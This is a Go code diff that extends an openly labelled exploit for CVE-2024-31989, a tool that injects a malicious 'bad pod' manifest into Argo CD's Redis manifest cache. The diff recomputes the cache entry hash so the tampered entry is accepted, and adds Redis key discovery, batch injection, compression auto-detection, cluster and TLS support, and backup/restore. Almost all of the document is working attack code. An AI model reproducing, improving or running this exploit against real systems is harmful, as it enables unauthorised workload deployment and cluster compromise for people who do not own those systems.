@@ -2,7 +2,6 @@ package main
 
 import (
 	"bytes"
-	"compress/gzip"
 	"context"
 	"encoding/base64"
 	"encoding/json"
@@ -10,7 +9,6 @@ import (
 	"flag"
 	"fmt"
 	"hash/fnv"
-	"io"
 	"os"
 	"strings"
 	"time"
@@ -20,99 +18,131 @@ import (
 	"github.com/redis/go-redis/v9"
 )
 
-type RedisCompressionType string
-
-var (
-	RedisCompressionNone RedisCompressionType = "none"
-	RedisCompressionGZip RedisCompressionType = "gzip"
-)
-
 type redisCache struct {
-	expiration           time.Duration
-	client               *redis.Client
-	cache                *rediscache.Cache
-	redisCompressionType RedisCompressionType
+	expiration time.Duration
+	client     redis.UniversalClient
+	cache      *rediscache.Cache
+	codec      Codec
+	autoDetect bool
 }
 
-func NewRedisCache(client *redis.Client, expiration time.Duration, compressionType RedisCompressionType) *redisCache {
+// NewRedisCache builds a cache wrapper using codec to (de)compress entries.
+// When autoDetect is true, Get ignores codec and instead probes
+// autoDetectOrder's suffixes against redis, returning whichever codec
+// successfully decodes a valid CachedManifestResponse; codec is then only
+// used by Set when it is called with a nil Codec.
+func NewRedisCache(client redis.UniversalClient, expiration time.Duration, codec Codec, autoDetect bool) *redisCache {
 	return &redisCache{
-		client:               client,
-		expiration:           expiration,
-		cache:                rediscache.New(&rediscache.Options{Redis: client}),
-		redisCompressionType: compressionType,
+		client:     client,
+		expiration: expiration,
+		cache:      rediscache.New(&rediscache.Options{Redis: client}),
+		codec:      codec,
+		autoDetect: autoDetect,
 	}
 }
 
-func (r *redisCache) getKey(key string) string {
-	switch r.redisCompressionType {
-	case RedisCompressionGZip:
-		return key + ".gz"
-	default:
-		return key
-	}
+// physicalKey returns the redis key for a logical manifest key, applying
+// codec's suffix. reposerver's own manifestCacheKey never hash-tags its keys,
+// so this must match plain, untagged keys in every mode, including cluster.
+func (r *redisCache) physicalKey(key string, codec Codec) string {
+	return key + codec.Suffix()
 }
 
-func (r *redisCache) marshal(obj interface{}) ([]byte, error) {
+func (r *redisCache) marshal(codec Codec, obj interface{}) ([]byte, error) {
 	buf := bytes.NewBuffer([]byte{})
-	var w io.Writer = buf
-	if r.redisCompressionType == RedisCompressionGZip {
-		w = gzip.NewWriter(buf)
+	w, err := codec.NewWriter(buf)
+	if err != nil {
+		return nil, err
 	}
-	encoder := json.NewEncoder(w)
-
-	if err := encoder.Encode(obj); err != nil {
+	if err := json.NewEncoder(w).Encode(obj); err != nil {
 		return nil, err
 	}
-	if flusher, ok := w.(interface{ Flush() error }); ok {
-		if err := flusher.Flush(); err != nil {
-			return nil, err
-		}
+	if err := w.Close(); err != nil {
+		return nil, err
 	}
 	return buf.Bytes(), nil
 }
 
-func (r *redisCache) unmarshal(data []byte, obj interface{}) error {
-	buf := bytes.NewReader(data)
-	var reader io.Reader = buf
-	if r.redisCompressionType == RedisCompressionGZip {
-		if gzipReader, err := gzip.NewReader(buf); err != nil {
-			return err
-		} else {
-			reader = gzipReader
-		}
+func (r *redisCache) unmarshal(codec Codec, data []byte, obj interface{}) error {
+	reader, err := codec.NewReader(bytes.NewReader(data))
+	if err != nil {
+		return err
 	}
+	defer reader.Close()
+
 	if err := json.NewDecoder(reader).Decode(obj); err != nil {
 		return fmt.Errorf("failed to decode cached data: %w", err)
 	}
 	return nil
 }
 
-func (r *redisCache) Set(key string, obj interface{}) error {
+func (r *redisCache) getRaw(physicalKey string) ([]byte, error) {
+	var data []byte
+	err := r.cache.Get(context.TODO(), physicalKey, &data)
+	if errors.Is(err, rediscache.ErrCacheMiss) {
+		err = redis.ErrClosed
+	}
+	return data, err
+}
+
+// Set re-encodes obj with codec and writes it to key. Callers that read the
+// entry with Get should pass back the Codec it returned, so the re-encoded
+// entry lands under the same physical key reposerver expects.
+func (r *redisCache) Set(key string, obj interface{}, codec Codec) error {
+	if codec == nil {
+		codec = r.codec
+	}
 
-	val, err := r.marshal(obj)
+	val, err := r.marshal(codec, obj)
 	if err != nil {
 		return err
 	}
 
 	return r.cache.Set(&rediscache.Item{
-		Key:   r.getKey(key),
+		Key:   r.physicalKey(key, codec),
 		Value: val,
 		TTL:   r.expiration,
 		SetNX: false,
 	})
 }
 
-func (r *redisCache) Get(key string, obj interface{}) error {
-	var data []byte
-	err := r.cache.Get(context.TODO(), r.getKey(key), &data)
-	if errors.Is(err, rediscache.ErrCacheMiss) {
-		err = redis.ErrClosed
+// Get fetches and decodes key, returning the Codec that decoded it. In
+// autoDetect mode it tries each codec in autoDetectOrder in turn, picking the
+// first one whose key exists in redis and whose decoded bytes are valid JSON.
+func (r *redisCache) Get(key string, obj interface{}) (Codec, error) {
+	if r.autoDetect {
+		return r.getAuto(key, obj)
 	}
+
+	data, err := r.getRaw(r.physicalKey(key, r.codec))
 	if err != nil {
-		return err
+		return nil, err
+	}
+	if err := r.unmarshal(r.codec, data, obj); err != nil {
+		return nil, err
 	}
+	return r.codec, nil
+}
 
-	return r.unmarshal(data, obj)
+func (r *redisCache) getAuto(key string, obj interface{}) (Codec, error) {
+	var lastErr error
+	for _, name := range autoDetectOrder {
+		codec := codecs[name]
+		data, err := r.getRaw(r.physicalKey(key, codec))
+		if err != nil {
+			lastErr = err
+			continue
+		}
+		if err := r.unmarshal(codec, data, obj); err != nil {
+			lastErr = err
+			continue
+		}
+		return codec, nil
+	}
+	if lastErr == nil {
+		lastErr = fmt.Errorf("no compression codec matched key %q", key)
+	}
+	return nil, lastErr
 }
 
 type CachedManifestResponse struct {
@@ -171,54 +201,122 @@ CVE-2024-31989 - by vt0x78 & D3bu663r`
 }
 
 func spinner(delay time.Duration) {
-    for {
-        for _, r := range "-\\|/" {
-            fmt.Printf("\r%c", r)
+	for {
+		for _, r := range "-\\|/" {
+			fmt.Printf("\r%c", r)
 			fmt.Printf(" Injecting Key...")
-            time.Sleep(delay)
-        }
-    }
+			time.Sleep(delay)
+		}
+	}
 }
 
 func main() {
 	printBanner()
 	help := flag.Bool("h", false, "Help usage")
+	mode := flag.String("mode", "inject", "Mode to run in: inject, discover, restore")
 	keyFilePath := flag.String("key", "", "Path to redis key name file")
 	podFilePath := flag.String("pod", "", "Path to bad pod (json minified/one line)")
-	reddisAddr := flag.String("redis-addr", "localhost:6379", "Addres to redis server (default localhost:6379)")
+	pattern := flag.String("pattern", "mfst|*", "SCAN MATCH pattern used by -mode discover")
+	scanCount := flag.Int64("scan-count", 100, "SCAN COUNT hint used by -mode discover")
+	backupFilePath := flag.String("backup", "", "Path to write (inject) or read (restore) a JSON backup of the original CachedManifestResponse. In batch mode (-keys), treated as a directory")
+	dryRun := flag.Bool("dry-run", false, "Marshal and hash the payload without writing it to redis")
+	keysFilePath := flag.String("keys", "", "Path to a file of redis keys (one per line) to batch-inject into; overrides -key")
+	concurrency := flag.Int("concurrency", 4, "Number of keys to inject concurrently in batch mode (-keys)")
+	manifestIndex := flag.Int("manifest-index", 0, "Index into ManifestResponse.Manifests to overwrite when -manifest-mode=replace")
+	manifestMode := flag.String("manifest-mode", "replace", "How to insert the bad pod: replace, append, or prepend")
+	compression := flag.String("compression", "gzip", "Compression codec: none, gzip, zstd, or auto to detect it from what's in redis")
+	reddisAddr := flag.String("redis-addr", "localhost:6379", "Address to redis server, or comma-separated cluster node addresses when -redis-cluster is set (default localhost:6379)")
+	redisDB := flag.Int("redis-db", 0, "Redis DB index (ignored in cluster mode)")
+	redisPassword := flag.String("redis-password", "", "Redis password")
+	redisPasswordFile := flag.String("redis-password-file", "", "Path to a file containing the redis password")
+	redisSentinelMaster := flag.String("redis-sentinel-master", "", "Redis Sentinel master name, required with -redis-sentinel-addrs")
+	redisSentinelAddrs := flag.String("redis-sentinel-addrs", "", "Comma-separated list of redis Sentinel addresses, enables Sentinel mode")
+	redisCluster := flag.Bool("redis-cluster", false, "Treat -redis-addr as a comma-separated list of Redis Cluster node addresses")
+	redisTLS := flag.Bool("redis-tls", false, "Connect to redis over TLS")
+	redisCAFile := flag.String("redis-ca-file", "", "Path to a PEM CA certificate to verify the redis server")
+	redisCertFile := flag.String("redis-cert-file", "", "Path to a client PEM certificate for redis mTLS")
+	redisKeyFile := flag.String("redis-key-file", "", "Path to the client PEM private key for redis mTLS")
+	redisInsecureSkipVerify := flag.Bool("redis-insecure-skip-verify", false, "Skip TLS certificate verification when connecting to redis")
 
 	flag.Parse()
 
-	client := redis.NewClient(&redis.Options{
-		Addr:     *reddisAddr,
-		Password: "",
-		DB:       0,
+	client, err := newUniversalClient(redisFlags{
+		addr:               *reddisAddr,
+		db:                 *redisDB,
+		password:           *redisPassword,
+		passwordFile:       *redisPasswordFile,
+		sentinelMaster:     *redisSentinelMaster,
+		sentinelAddrs:      *redisSentinelAddrs,
+		cluster:            *redisCluster,
+		tls:                *redisTLS,
+		caFile:             *redisCAFile,
+		certFile:           *redisCertFile,
+		keyFile:            *redisKeyFile,
+		insecureSkipVerify: *redisInsecureSkipVerify,
 	})
+	if err != nil {
+		fmt.Println("Error building redis client:", err)
+		return
+	}
 
-	rediscache := NewRedisCache(client, time.Hour, RedisCompressionGZip)
+	autoDetect := *compression == "auto"
+	codec := codecs["gzip"]
+	if !autoDetect {
+		c, err := lookupCodec(*compression)
+		if err != nil {
+			fmt.Println("Error:", err)
+			return
+		}
+		codec = c
+	}
+
+	rediscache := NewRedisCache(client, time.Hour, codec, autoDetect)
 
 	if *help {
 		flag.Usage()
 		return
 	}
 
-	if *keyFilePath == "" || *podFilePath == "" {
-		fmt.Println("Both -key and -pod flags are required")
+	switch *mode {
+	case "discover":
+		if err := runDiscover(client, *pattern, *scanCount); err != nil {
+			fmt.Println("Error discovering manifest cache keys:", err)
+		}
+	case "inject":
+		var injectErr error
+		if *keysFilePath != "" {
+			injectErr = runBatchInject(rediscache, *keysFilePath, *podFilePath, *backupFilePath, *dryRun, *concurrency, *manifestIndex, *manifestMode)
+		} else {
+			injectErr = runInject(rediscache, *keyFilePath, *podFilePath, *backupFilePath, *dryRun, *manifestIndex, *manifestMode)
+		}
+		if injectErr != nil {
+			fmt.Println("Error injecting manifest:", injectErr)
+		}
+	case "restore":
+		if err := runRestore(rediscache, *keyFilePath, *backupFilePath); err != nil {
+			fmt.Println("Error restoring manifest:", err)
+		}
+	default:
+		fmt.Printf("Unknown -mode %q\n", *mode)
+		flag.Usage()
+	}
+}
+
+func runInject(rediscache *redisCache, keyFilePath, podFilePath, backupFilePath string, dryRun bool, manifestIndex int, manifestMode string) error {
+	if keyFilePath == "" || podFilePath == "" {
 		flag.Usage()
-		return
+		return fmt.Errorf("both -key and -pod flags are required")
 	}
 
-	keyData, err := os.ReadFile(*keyFilePath)
+	keyData, err := os.ReadFile(keyFilePath)
 	if err != nil {
-		fmt.Println("Error reading key file:", err)
-		return
+		return fmt.Errorf("error reading key file: %w", err)
 	}
 	key := strings.TrimSpace(string(keyData))
 
-	podData, err := os.ReadFile(*podFilePath)
+	podData, err := os.ReadFile(podFilePath)
 	if err != nil {
-		fmt.Println("Error reading pod file:", err)
-		return
+		return fmt.Errorf("error reading pod file: %w", err)
 	}
 	badPod := strings.TrimSpace(string(podData))
 
@@ -227,26 +325,41 @@ func main() {
 
 	var cachedManifest CachedManifestResponse
 
-	err = rediscache.Get(key, &cachedManifest)
+	codec, err := rediscache.Get(key, &cachedManifest)
 	if err != nil {
-		fmt.Println("Error getting cached manifest:", err)
-		return
+		return fmt.Errorf("error getting cached manifest: %w", err)
 	}
 
-	cachedManifest.ManifestResponse.Manifests[0] = badPod
+	if backupFilePath != "" {
+		if err := writeBackup(backupFilePath, codec, cachedManifest.shallowCopy()); err != nil {
+			return fmt.Errorf("error writing backup: %w", err)
+		}
+		fmt.Printf("Backed up original cached manifest to %s\n", backupFilePath)
+	}
+
+	if err := applyManifest(cachedManifest.ManifestResponse, badPod, manifestIndex, manifestMode); err != nil {
+		return err
+	}
 
 	cacheEntryHash, err := cachedManifest.generateCacheEntryHash()
 	if err != nil {
-		fmt.Println("Error generating CacheEntryHash:", err)
-		return
+		return fmt.Errorf("error generating CacheEntryHash: %w", err)
 	}
 	cachedManifest.CacheEntryHash = cacheEntryHash
 
-	err = rediscache.Set(key, &cachedManifest)
-	if err != nil {
-		fmt.Println("Error setting cached manifest:", err)
-		return
-	}else{
-		fmt.Printf("\n\nKey set successfully\n\n")
+	if dryRun {
+		payload, err := rediscache.marshal(codec, &cachedManifest)
+		if err != nil {
+			return fmt.Errorf("error marshaling payload: %w", err)
+		}
+		fmt.Printf("\n\nDry run: payload is %d bytes, new CacheEntryHash is %s (codec: %s)\n\n", len(payload), cacheEntryHash, codec.Name())
+		return nil
 	}
+
+	if err := rediscache.Set(key, &cachedManifest, codec); err != nil {
+		return fmt.Errorf("error setting cached manifest: %w", err)
+	}
+
+	fmt.Printf("\n\nKey set successfully\n\n")
+	return nil
 }